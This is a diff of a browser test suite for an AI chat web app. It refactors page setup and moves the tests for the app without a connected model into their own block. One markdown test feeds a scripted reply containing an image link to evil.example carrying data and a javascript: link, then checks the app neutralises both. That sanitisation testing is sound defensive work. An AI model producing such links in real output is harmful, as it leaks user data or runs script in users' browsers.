@@ -12,15 +12,40 @@ import {
 import type { TestServer } from "../../harness/test-server.ts";
 import { severeViolations } from "../cards/axe.ts";
 import { eventually } from "../eventually.ts";
+import { beginAt, leadTo } from "../lead-to.ts";
 import { newPage } from "../open-page.ts";
 import { startPageServer } from "../page-server.ts";
 
 const GOALS = { books: { target: 50, done: 17 } };
 
+type PageOptions = NonNullable<Parameters<typeof newPage>[1]>;
+
+async function openChat(
+  opening: { browser: Browser; server: TestServer; faults: string[] },
+  address = "/chat",
+  options: PageOptions = {},
+) {
+  const page = await newPage(opening, options);
+  page.setDefaultTimeout(15_000);
+  await page.goto(opening.server.url + address);
+  const field = page.getByRole("textbox", { name: /^(Say something|说点什么)$/ });
+  await field.waitFor();
+  return { page, field, ...parts(page) };
+}
+
+function parts(page: Page) {
+  const log = page.getByRole("log");
+  return {
+    log,
+    replies: log.getByRole("article", { name: /^(Assistant|助手)$/ }),
+    words: log.getByRole("article", { name: /^(You|你)$/ }),
+    status: page.getByRole("status").filter({ hasText: /answer|回答/ }),
+  };
+}
+
 describe.skipIf(!hasChromium)("the chat in Chromium", () => {
   let provider: ScriptedProvider;
   let server: TestServer;
-  let bare: TestServer;
   let browser: Browser;
   const faults: string[] = [];
 
@@ -28,36 +53,28 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await ensureWebApp(() => {});
     provider = await startScriptedProvider();
     const { env } = provider;
-    [server, bare] = await Promise.all([startPageServer({ env, dispatch: true }), startPageServer()]);
+    server = await startPageServer({ env, dispatch: true });
     browser = await startChromium();
   }, 120_000);
   afterAll(async () => {
     await browser?.close();
-    await Promise.all([server?.close(), bare?.close(), provider?.close()]);
+    await Promise.all([server?.close(), provider?.close()]);
   });
 
   const script = (...replies: Partial<Reply>[]) => provider.play("play", { replies });
 
-  async function open(
-    address = "/chat",
-    { on = server, ...options }: NonNullable<Parameters<typeof newPage>[1]> & { on?: TestServer } = {},
-  ) {
-    const page = await newPage({ browser, server: on, faults }, options);
-    page.setDefaultTimeout(15_000);
-    await page.goto(on.url + address);
-    const field = page.getByRole("textbox", { name: /^(Say something|说点什么)$/ });
-    await field.waitFor();
-    return { page, field, ...parts(page) };
+  const open = (address?: string, options?: PageOptions) =>
+    openChat({ browser, server, faults }, address, options);
+  let led: Awaited<ReturnType<typeof open>> | undefined;
+  afterAll(() => led?.page.close());
+  /** For a test that needs no new page: that of the test before begins another conversation. */
+  async function openHere() {
+    led ??= await open();
+    await beginAt(led.page, "/chat");
+    await led.page.getByRole("heading", { name: "What is on your mind?" }).waitFor();
+    return led;
   }
-  function parts(page: Page) {
-    const log = page.getByRole("log");
-    return {
-      log,
-      replies: log.getByRole("article", { name: /^(Assistant|助手)$/ }),
-      words: log.getByRole("article", { name: /^(You|你)$/ }),
-      status: page.getByRole("status").filter({ hasText: /answer|回答/ }),
-    };
-  }
+
   async function say(field: Locator, text: string) {
     await field.fill(text);
     await field.press("Enter");
@@ -73,7 +90,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
       { text: "Your goals are **saved**." },
       { text: "Goals of 2026" },
     );
-    const { page, field, replies, words } = await open();
+    const { page, field, replies, words } = await openHere();
     await say(field, "Set my goals: 50 books");
     const reply = replies.first();
     await reply.getByText("Your goals are saved.").waitFor();
@@ -95,7 +112,6 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await page.reload();
     await replies.getByText("taken back").waitFor();
     expect(await replies.getByRole("button", { name: "Undo" }).count()).toBe(0);
-    await page.close();
   });
 
   test("a question waits, and the reply goes on with the answer", async () => {
@@ -113,14 +129,13 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
       },
       { text: "42 pages, well done." },
     );
-    const { page, field, replies, status } = await open();
+    const { page, field, replies, status } = await openHere();
     await say(field, "Ask me");
     await replies.getByText("waits for you").waitFor();
     await status.filter({ hasText: "waits for your answer" }).waitFor({ state: "attached" });
     await replies.getByLabel("Pages read").fill("42");
     await replies.getByRole("button", { name: "Submit" }).click();
     await replies.getByText("42 pages, well done.").waitFor();
-    await page.close();
   });
 
   test("a question that was passed over waits no longer, and the conversation goes on with its late answer", async () => {
@@ -133,7 +148,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
       { text: "Sunny." },
       { text: "42 pages, after all." },
     );
-    const { page, field, replies } = await open();
+    const { page, field, replies } = await openHere();
     await say(field, "Ask me");
     await replies.getByText("waits for you").waitFor();
     await say(field, "How is the weather?");
@@ -143,7 +158,6 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await replies.getByLabel("Pages").fill("42");
     await replies.getByRole("button", { name: "Submit" }).click();
     await replies.getByText("42 pages, after all.").waitFor();
-    await page.close();
   });
 
   test("a form that waits for nobody goes on with the conversation once it is filled in", async () => {
@@ -151,7 +165,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     const options = { interactive: true, save_to: "checkins/shown", fields };
     const form = { kind: "form", data: {}, title: "Check-in", options };
     script({ calls: [{ tool: "show", arguments: form }] }, { text: "Fill it in." }, { text: "Forty-two!" });
-    const { page, field, replies, words } = await open();
+    const { page, field, replies, words } = await openHere();
     await say(field, "Check in");
     await replies.getByText("Fill it in.").waitFor();
     await replies.getByLabel("Pages").fill("42");
@@ -160,7 +174,6 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await words.getByText("You answered “Check-in”").waitFor();
     const { data } = (await server.call("read_user_data", { path: "checkins/shown" })).json;
     expect(data).toEqual({ pages: 42 });
-    await page.close();
   });
 
   test("a call that reaches outside shows what it would do, and does what the person made of it", async () => {
@@ -196,7 +209,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
 
   test("a reply is stopped, made anew, and the words before it are said otherwise", async () => {
     script({ text: "One two three four five six seven eight nine ten.", pace_ms: 120 });
-    const { page, field, replies, words, status } = await open();
+    const { page, field, replies, words, status } = await openHere();
     // The field has the focus, because people come here to write.
     await field.and(page.locator(":focus")).waitFor();
     await say(field, "Count");
@@ -228,12 +241,11 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await say(field, "More");
     await replies.getByText("Thirteen.").waitFor();
     expect(await words.allInnerTexts()).toEqual(["Count on", "More"]);
-    await page.close();
   });
 
   test("what the provider fails with is said with what to do, and tried again", async () => {
     script({ fault: { status: 402, message: "Insufficient balance", times: 1 }, text: "Here." });
-    const { page, field, replies } = await open();
+    const { page, field, replies } = await openHere();
     await say(field, "Hello");
     await replies
       .getByRole("alert")
@@ -241,7 +253,6 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
       .waitFor();
     await replies.getByRole("button", { name: "Try again" }).click();
     await replies.getByText("Here.").waitFor();
-    await page.close();
   });
 
   test("a reply is watched from two tabs and outlives a reload in its midst", async () => {
@@ -261,7 +272,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     script({
       text: "| Week | Pages |\n| --- | ---: |\n| 1 | 120 |\n\n```ts\nconst a = 1;\n```\n\nso $x^2$, at $5\n\n![secret](https://evil.example/?q=data) <b>bold</b> [x](javascript:alert(1))",
     });
-    const { page, field, replies } = await open();
+    const { page, field, replies } = await openHere();
     await say(field, "Markdown");
     await replies.getByRole("cell", { name: "120" }).waitFor();
     await replies.locator(".hljs-keyword").getByText("const").waitFor();
@@ -272,7 +283,6 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     expect(await replies.innerText()).toContain("secret (evil.example)");
     expect(await replies.innerText()).toContain("<b>bold</b>");
     expect(await replies.locator('a[href^="javascript"]').count()).toBe(0);
-    await page.close();
   });
 
   test("a skill that fits is offered before the answer, and loaded on the person's word", async () => {
@@ -316,65 +326,6 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     expect(await field.inputValue()).toBe("用 @goal_tracking ");
     await field.press("Enter");
     await replies.getByRole("button", { name: /activate_skills · goal_tracking/ }).waitFor();
-    await page.close();
-  });
-
-  test("without a model every tool is there by its name, and its card stays in the conversation", async () => {
-    const { page, field, log } = await open("/chat", { on: bare });
-    await page.getByText("No model is connected yet.", { exact: false }).waitFor();
-    await field.pressSequentially("Hello");
-    await field.press("Enter");
-    await page.getByRole("alert").getByText("Nothing was sent").waitFor();
-    expect(await field.inputValue()).toBe("Hello");
-    await field.fill("/");
-    for (const tool of ["ask", "save", "show", "remind", "search"])
-      await page.getByRole("option", { name: new RegExp(`^${tool} `) }).waitFor();
-    expect(await page.getByRole("option").count()).toBeGreaterThan(30);
-    await field.fill("");
-    await field.pressSequentially("/write_user");
-    await page.getByRole("option", { name: /write_user_data/ }).waitFor();
-    await field.press("Enter");
-    const form = page.getByRole("dialog");
-    // The focus starts in the form's first field.
-    await form.getByLabel("path required").and(page.locator(":focus")).waitFor();
-    await form.getByRole("button", { name: "Run" }).click();
-    // While a call is in progress, its button does nothing.
-    await form.getByRole("status").getByText(/field/).waitFor();
-    await form.getByRole("button", { name: /example/i }).click();
-    await form.getByRole("button", { name: "Run" }).click();
-    await log.getByText(/^Saved goals/).waitFor();
-    await form.waitFor({ state: "hidden" });
-
-    await field.pressSequentially("/show_card");
-    await field.press("Enter");
-    await form.getByRole("button", { name: /example/i }).click();
-    await form.getByRole("button", { name: "Run" }).click();
-    await log.getByRole("heading", { name: "Today" }).waitFor();
-    await page.getByRole("heading", { level: 1, name: "/ write_user_data" }).waitFor();
-    await page.reload();
-    await log.getByRole("heading", { name: "Today" }).waitFor();
-    await log.getByText(/^Saved goals/).waitFor();
-    await page.close();
-  });
-
-  test("what was called in one that begins is there, also when it changes again just then", async () => {
-    const { page, field, log } = await open("/chat", { on: bare });
-    // The page requests its conversation, and drops that request because it has to ask again.
-    const asked = Promise.withResolvers<void>();
-    await page.route(/\/api\/conversations\/[^/?]+$/, () => asked.resolve(), { times: 1 });
-    await field.pressSequentially("/query_user");
-    await page.getByRole("option", { name: /query_user_data/ }).waitFor();
-    await field.press("Enter");
-    await page.getByRole("dialog").getByRole("button", { name: "Run" }).click();
-    await asked.promise;
-    const id = new URL(page.url()).pathname.split("/").at(-1);
-    await bare.send("POST", `/api/conversations/${id}/calls`, {
-      body: { tool: "query_user_data", arguments: {} },
-    });
-    await log
-      .getByRole("button", { name: /query_user_data/ })
-      .nth(1)
-      .waitFor();
     await page.close();
   });
 
@@ -472,7 +423,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await card.waitFor();
 
     const { cards } = (await server.send("GET", "/api/cards?limit=1")).json;
-    await page.goto(`${server.url}/cards/${cards[0].card_id}`);
+    await leadTo(page, `/cards/${cards[0].card_id}`);
     await page.getByRole("link", { name: "by the assistant" }).click();
     await parts(page).words.getByText("Sum up my reading").waitFor();
     await page.close();
@@ -483,7 +434,7 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
       { calls: [{ tool: "save", arguments: { path: "notes/heron", content: { seen: true } } }] },
       { text: "Kept." },
     );
-    const { page, field, replies } = await open();
+    const { page, field, replies } = await openHere();
     await say(field, "Note the heron");
     await replies.getByText("Saved notes/heron").waitFor();
     await replies.getByText("Kept.").waitFor();
@@ -495,12 +446,11 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await server.call("undo", { call_id: saved.result.receipt.call_id });
     await replies.getByText("taken back").waitFor();
     expect(await replies.getByRole("button", { name: "Undo" }).count()).toBe(0);
-    await page.close();
   });
 
   test("words that were not said are there after a reload, and are lost to no failure", async () => {
     script({ text: "Yes." });
-    const { page, field, replies } = await open();
+    const { page, field, replies } = await openHere();
     await field.fill("half a thought");
     await page.reload();
     await field.waitFor();
@@ -515,12 +465,11 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await page.getByRole("button", { name: "New conversation" }).first().click();
     await page.getByRole("heading", { name: "What is on your mind?" }).waitFor();
     expect(await field.inputValue()).toBe("");
-    await page.close();
   });
 
   test("pictures and texts go with the words: chosen, pasted or dropped, seen and sent to the model", async () => {
     script({ text: "A dot and a plan." }, { text: "Still a dot." });
-    const { page, field, replies, words } = await open();
+    const { page, field, replies, words } = await openHere();
     const attached = page.getByRole("list", { name: "Files" });
     await page.locator('input[type="file"]').setInputFiles([
       { name: "dot.png", mimeType: "image/png", buffer: PIXEL },
@@ -564,7 +513,6 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await page.getByRole("button", { name: "Say again" }).click();
     await words.getByText("And these?").waitFor();
     await words.first().getByRole("img", { name: "dot.png" }).waitFor();
-    await page.close();
   });
 
   test.each([
@@ -589,6 +537,84 @@ describe.skipIf(!hasChromium)("the chat in Chromium", () => {
     await replies.locator(".hljs-keyword").waitFor();
     await replies.getByRole("button", { name: /axe/ }).first().click();
     expect(await severeViolations(page)).toEqual([]);
+    await page.close();
+  });
+
+  test("nothing broke in the page meanwhile", () => {
+    expect(faults).toEqual([]);
+  });
+});
+
+describe.skipIf(!hasChromium)("the chat without a model in Chromium", () => {
+  let server: TestServer;
+  let browser: Browser;
+  const faults: string[] = [];
+
+  beforeAll(async () => {
+    server = await startPageServer();
+    browser = await startChromium();
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await server?.close();
+  });
+
+  test("every tool is there by its name, and its card stays in the conversation", async () => {
+    const { page, field, log } = await openChat({ browser, server, faults });
+    await page.getByText("No model is connected yet.", { exact: false }).waitFor();
+    await field.pressSequentially("Hello");
+    await field.press("Enter");
+    await page.getByRole("alert").getByText("Nothing was sent").waitFor();
+    expect(await field.inputValue()).toBe("Hello");
+    await field.fill("/");
+    for (const tool of ["ask", "save", "show", "remind", "search"])
+      await page.getByRole("option", { name: new RegExp(`^${tool} `) }).waitFor();
+    expect(await page.getByRole("option").count()).toBeGreaterThan(30);
+    await field.fill("");
+    await field.pressSequentially("/write_user");
+    await page.getByRole("option", { name: /write_user_data/ }).waitFor();
+    await field.press("Enter");
+    const form = page.getByRole("dialog");
+    // The focus starts in the form's first field.
+    await form.getByLabel("path required").and(page.locator(":focus")).waitFor();
+    await form.getByRole("button", { name: "Run" }).click();
+    // While a call is in progress, its button does nothing.
+    await form.getByRole("status").getByText(/field/).waitFor();
+    await form.getByRole("button", { name: /example/i }).click();
+    await form.getByRole("button", { name: "Run" }).click();
+    await log.getByText(/^Saved goals/).waitFor();
+    await form.waitFor({ state: "hidden" });
+
+    await field.pressSequentially("/show_card");
+    await field.press("Enter");
+    await form.getByRole("button", { name: /example/i }).click();
+    await form.getByRole("button", { name: "Run" }).click();
+    await log.getByRole("heading", { name: "Today" }).waitFor();
+    await page.getByRole("heading", { level: 1, name: "/ write_user_data" }).waitFor();
+    await page.reload();
+    await log.getByRole("heading", { name: "Today" }).waitFor();
+    await log.getByText(/^Saved goals/).waitFor();
+    await page.close();
+  });
+
+  test("what was called in one that begins is there, also when it changes again just then", async () => {
+    const { page, field, log } = await openChat({ browser, server, faults });
+    // The page requests its conversation, and drops that request because it has to ask again.
+    const asked = Promise.withResolvers<void>();
+    await page.route(/\/api\/conversations\/[^/?]+$/, () => asked.resolve(), { times: 1 });
+    await field.pressSequentially("/query_user");
+    await page.getByRole("option", { name: /query_user_data/ }).waitFor();
+    await field.press("Enter");
+    await page.getByRole("dialog").getByRole("button", { name: "Run" }).click();
+    await asked.promise;
+    const id = new URL(page.url()).pathname.split("/").at(-1);
+    await server.send("POST", `/api/conversations/${id}/calls`, {
+      body: { tool: "query_user_data", arguments: {} },
+    });
+    await log
+      .getByRole("button", { name: /query_user_data/ })
+      .nth(1)
+      .waitFor();
     await page.close();
   });
 
